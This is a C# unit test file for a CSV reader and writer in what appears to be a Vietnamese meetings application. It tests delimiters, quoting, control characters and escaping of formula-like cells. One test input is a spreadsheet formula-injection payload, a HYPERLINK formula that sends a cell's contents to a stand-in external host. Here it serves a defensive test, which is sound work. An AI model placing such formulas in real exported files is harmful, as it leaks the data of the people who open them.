using System.Text;
using DiemCau.Meetings.Shared.Tables;

namespace DiemCau.Meetings.Tests.Shared.Tables;

public sealed class CsvReadingTests
{
    [Theory]
    [InlineData("Mã;Tên;Ghi chú, khác\n1;Xã A, huyện B;a, b\n")]
    [InlineData("Mã\tTên\n1\tXã A, huyện B\n")]
    [InlineData("Mã|Tên\n1|Xã A, huyện B\n")]
    [InlineData("sep=^\nMã^Tên\n1^Xã A, huyện B\n")]
    [InlineData("Mã,Tên\n1,\"Xã A, huyện B\"\n")]
    [InlineData("\"Mã\";\"Tên\"\r\n\"1\";\"Xã A, huyện B\";;;\r\n")]
    public void What_separates_is_what_makes_a_table(string text) => Assert.Equal(["1", "Xã A, huyện B"], Read(text).Rows[1].Cells.Take(2).Select(cell => cell.Text));

    [Fact]
    public void Quotes_mean_something_at_the_beginning_of_a_field_only() => Assert.Equal(
        ["Phòng \"Một cửa\", tầng 1 nhà A", "5\" nhà"],
        Read("Mã,Tên\n\"Phòng \"\"Một cửa\"\", tầng 1\nnhà A\",5\" nhà\n").Rows[1].Cells.Select(cell => cell.Text));

    [Fact]
    public void A_quote_that_is_not_closed_makes_a_file_unreadable() => Assert.Throws<TableUnreadableException>(() => Read("Mã,Tên\n\"a,b\n"));

    [Theory]
    [InlineData("=HYPERLINK(\"http://xau.example/?\"&A1)")]
    [InlineData("+84905123456")]
    [InlineData("-5")]
    [InlineData("@SUM(1)")]
    [InlineData("'=1")]
    [InlineData("Xã A")]
    [InlineData("'quoted'")]
    public void No_field_is_a_formula_and_it_is_read_back_as_it_was(string cell)
    {
        var written = CsvTable.Write(["Mã", "Tên"], [["1", cell]]);
        var field = Encoding.UTF8.GetString(written).Split("1,", 2)[1].TrimStart('"');
        Assert.DoesNotContain(field[0], "=+-@");
        Assert.Equal(cell, CsvReading.Read(new MemoryStream(written), Understood, default).Rows[1][1].Text);
    }

    [Fact]
    public void A_control_character_is_refused_by_cell() =>
        Assert.Equal([null, "text_control"], Read("Mã,Tên\n1,a\u0007b\n").Rows[1].Cells.Select(cell => cell.Fault?.Code));

    private static Table Read(string text) => CsvReading.Read(new MemoryStream(Encoding.UTF8.GetBytes(text)), Understood, default);

    private static int Understood(IReadOnlyList<TableRow> rows) => rows.Count == 0 ? 0 : rows[0].Cells.Count(cell => cell.Text is "Mã" or "Tên");
}
